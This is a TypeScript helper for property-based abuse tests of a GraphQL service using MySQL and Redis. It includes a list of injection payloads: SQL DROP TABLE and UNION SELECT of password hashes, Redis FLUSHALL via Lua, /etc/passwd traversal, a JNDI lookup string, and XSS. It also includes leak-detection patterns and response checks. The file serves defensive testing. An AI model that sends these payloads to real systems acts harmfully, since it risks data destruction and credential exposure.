/**
 * Hostile input for property-based abuse tests (fast-check), and the checks every answer to such
 * input must pass: no INTERNAL_SERVER_ERROR, and nothing in the answer that reveals the inside of
 * the system (stack frames, SQL, driver or Redis error text, file paths).
 */
import fc from 'fast-check';

/** Fragments aimed at every layer a string passes through on its way to MySQL or Redis. */
export const INJECTIONS: readonly string[] = [
  // SQL
  "' OR '1'='1",
  "' OR 1=1 -- ",
  '" OR ""="',
  "'; DROP TABLE `order`; --",
  "1; SELECT SLEEP(5)",
  "' UNION SELECT password_hash, email_index FROM `user` -- ",
  "admin'/*",
  "\\'; SHOW TABLES; #",
  '%',
  '_',
  "0x27 OR 1=1",
  // NoSQL / JSON operators
  '{"$gt": ""}',
  '{"$ne": null}',
  '{"$where": "sleep(1000)"}',
  '__proto__',
  'constructor',
  '{"__proto__": {"roles": ["ADMIN"]}}',
  // Lua (the reservation and verification scripts) and the Redis protocol
  "]] redis.call('FLUSHALL') --[[",
  "'); redis.call('DEL', KEYS[1]); --",
  '*1\r\n$8\r\nFLUSHALL\r\n',
  '\r\nFLUSHDB\r\n',
  'SET x 1\r\nGET x',
  '{a}:{b}*',
  // paths, templates, markup
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  // scalar look-alikes
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  'true',
  '',
  ' ',
  // unicode trouble: lone surrogates, RTL override, BOM, zero-width, combining marks, astral plane
  '\ud800',
  '\udfff',
  'a\u202egnp.exe',
  '\ufeff',
  '\u200b',
  'e\u0301\u0301\u0301',
  '😀🏳️‍🌈',
  'Ω≈ç√∫',
  'ｓｅｌｅｃｔ',
  // control characters and NUL
  '\u0000',
  'a\u0000b',
  '\u0007\u0008\u001b[31m',
  '\r\n',
];

const controlChar = fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c));

/** Any string an attacker might send: fragments, unicode, control characters, mixtures, huge. */
export const hostileString = (opts: { maxHuge?: number } = {}): fc.Arbitrary<string> => {
  const huge = Math.max(opts.maxHuge ?? 60_000, 2);
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
    { weight: 2, arbitrary: fc.tuple(fc.string({ maxLength: 12 }), fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 12 })).map((p) => p.join('')) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: controlChar, minLength: 1, maxLength: 8 }) },
    { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
    { weight: 1, arbitrary: fc.integer({ min: Math.ceil(huge / 2), max: huge }).map((n) => 'A'.repeat(n)) },
    { weight: 1, arbitrary: fc.integer({ min: 1, max: Math.min(Math.ceil(huge / 4), 2_000) }).map((n) => '😀'.repeat(n)) },
  );
};

/** Numbers at and beyond GraphQL Int bounds, zero, negative and fractional. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1, 98, 99, 100, 101, 2 ** 31 - 1, 2 ** 31, -(2 ** 31), -(2 ** 31) - 1, 2 ** 32, 2 ** 53, Number.MAX_SAFE_INTEGER, -Number.MAX_SAFE_INTEGER, 1e308, -1e308, 0.5, 1.5, 99.9, 1e-9),
  fc.integer(),
  fc.integer({ min: -200, max: 200 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** A JSON value of the wrong type for the place it is put in. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  // JSON.parse makes __proto__ an own key, as a request body would.
  fc.constantFrom(null, true, false, [], {}, [1, 2], { $gt: '' }, JSON.parse('{"__proto__": {"admin": true}}') as unknown, ['a'], [[[]]]),
  fc.jsonValue({ maxDepth: 3 }),
);

export const UUID_RE = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** Not-quite ids: malformed UUIDs, the nil UUID, UUIDs with injections or padding. */
export const malformedId = (seed: string): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(
      '00000000-0000-0000-0000-000000000000',
      'ffffffff-ffff-ffff-ffff-ffffffffffff',
      seed.replace(/-/g, ''),
      `{${seed}}`,
      ` ${seed} `,
      `${seed}\u0000`,
      `${seed}' OR '1'='1`,
      `${seed.slice(0, 35)}`,
      `${seed}0`,
      `${seed.slice(0, 8)}-%-${seed.slice(14)}`,
      seed.replace(/[0-9a-f]/, 'g'),
      seed.toUpperCase().replace(/-/g, '_'),
      `urn:uuid:${seed}`,
    ),
    fc.uuid({ version: [1, 2, 3, 4, 5, 7] }),
    hostileString({ maxHuge: 5_000 }),
  );

// ---------------------------------------------------------------------------- answers

/** Error codes a hostile request may be answered with (INTERNAL_SERVER_ERROR is never one). */
export const EXPECTED_REFUSAL_CODES = new Set([
  'BAD_USER_INPUT',
  'GRAPHQL_VALIDATION_FAILED',
  'GRAPHQL_PARSE_FAILED',
  'BAD_REQUEST',
  'UNAUTHENTICATED',
  'FORBIDDEN',
  'NOT_FOUND',
]);

/** What must never be in an answer: stack frames, SQL and driver errors, Redis/Lua errors, paths. */
export const LEAK_PATTERNS: readonly RegExp[] = [
  /\n\s*at\s+\S/, // a stack frame
  /\bat (Object|async|new|Module|Function|process)[.\s]/,
  /\bstacktrace\b/i,
  /\bER_[A-Z_]{3,}/,
  /mysql|mariadb|innodb/i,
  /redis/i,
  /\bsqlState\b|\bsqlMessage\b|\berrno\b/i,
  /\b(you have an error in your sql syntax|incorrect string value|data too long|out of range value|duplicate entry|deadlock found)/i,
  /\b(select|insert|update|delete)\b[^"]{0,200}\b(from|into|set|where)\b\s+[`\w]/i,
  /\buser_script\b|\bERR\b|WRONGTYPE|NOSCRIPT/,
  /\bMikroORM\b|\bknex\b/i,
  /\/(work|home|usr|opt|srv|app|src|node_modules|tmp)\//,
  /\b[A-Za-z]:\\\\\w/, // a Windows path, as it reads inside the JSON-encoded answer
  /\.(ts|js):\d+/,
  /\b(TypeError|ReferenceError|RangeError|SyntaxError)\b/,
];

/** Every string inside `value` (keys too), for removing echoes of the caller's own input. */
export function stringsIn(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) value.forEach((v) => stringsIn(v, out));
  else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      out.push(k);
      stringsIn(v, out);
    }
  }
  return out;
}

/** Every `message` string inside `value` (userErrors' messages sit among echoed data). */
function messagesIn(value: unknown, out: string[] = []): string[] {
  if (Array.isArray(value)) value.forEach((v) => messagesIn(v, out));
  else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      if (k === 'message' && typeof v === 'string') out.push(v);
      else messagesIn(v, out);
    }
  }
  return out;
}

/**
 * Leaks in an answer: looked for in its errors and in every message of its data (the fields a
 * client's own input comes back in, like a stored name, are data, not a leak), or in the whole
 * text when it is not JSON. GraphQL validation messages quote the offending variable value, so the
 * caller's own strings (raw, trimmed and JSON-quoted) are cut out first: echoing "redis" back to
 * the client that sent it reveals nothing.
 */
export function leaksIn(answer: { text: string; body: RawAnswer['body'] }, sent: unknown): string[] {
  let text = answer.body ? JSON.stringify({ errors: answer.body.errors ?? [], messages: messagesIn(answer.body.data) }) : answer.text;
  const echoes = [...new Set(stringsIn(sent).flatMap((s) => [s, s.trim(), s.trim().normalize('NFC')]))]
    .filter((s) => s.length >= 3)
    .flatMap((s) => [JSON.stringify(JSON.stringify(s)).slice(1, -1), JSON.stringify(s).slice(1, -1), JSON.stringify(s), s])
    .sort((a, b) => b.length - a.length);
  for (const e of echoes) text = text.split(e).join('«input»');
  return LEAK_PATTERNS.filter((p) => p.test(text)).map((p) => `${p} in ${JSON.stringify(text.slice(0, 2_000))}`);
}

export interface RawAnswer {
  status: number;
  text: string;
  body: { data?: Record<string, unknown> | null; errors?: Array<{ message: string; extensions?: Record<string, unknown> }> } | null;
}

/** POSTs a body as given (any JSON, or raw text) and keeps the answer's exact text. */
export async function postRaw(url: string, body: unknown, headers: Record<string, string> = {}): Promise<RawAnswer> {
  const res = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
  const text = await res.text();
  let parsed: RawAnswer['body'] = null;
  try {
    parsed = JSON.parse(text);
  } catch {
    parsed = null;
  }
  return { status: res.status, text, body: parsed };
}

/** The checks every answer must pass; returns what is wrong (empty: fine). */
export function answerProblems(answer: RawAnswer, sent: unknown): string[] {
  const problems: string[] = [];
  if (answer.status >= 500) problems.push(`HTTP ${answer.status}`);
  if (!answer.body) problems.push(`answer is not JSON: ${answer.text.slice(0, 300)}`);
  for (const e of answer.body?.errors ?? []) {
    const code = e.extensions?.code as string | undefined;
    if (!code || !EXPECTED_REFUSAL_CODES.has(code)) problems.push(`error code ${code ?? '(none)'}: ${e.message}`);
  }
  problems.push(...leaksIn(answer, sent));
  return problems;
}

// ---------------------------------------------------------------------------- shaping inputs

/**
 * Inputs that get past the schema to the rules behind it: mostly a valid input with one or two
 * fields swapped for hostile values (`undefined` drops the field), sometimes every field hostile.
 * All-hostile input alone would nearly always stop at GraphQL validation and test little else.
 */
export function aroundValid(
  valid: Record<string, fc.Arbitrary<unknown>>,
  hostile: Record<string, fc.Arbitrary<unknown>>,
): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(hostile);
  const mutated = fc
    .tuple(fc.record(valid), fc.record(hostile), fc.subarray(keys, { minLength: 0, maxLength: 2 }))
    .map(([base, bad, chosen]) => {
      const out: Record<string, unknown> = { ...base };
      for (const k of chosen) {
        if (bad[k] === undefined) delete out[k];
        else out[k] = bad[k];
      }
      return out;
    });
  const allHostile = fc.record(hostile).map((bad) => Object.fromEntries(Object.entries(bad).filter(([, v]) => v !== undefined)));
  return fc.oneof({ weight: 5, arbitrary: mutated }, { weight: 1, arbitrary: allHostile });
}
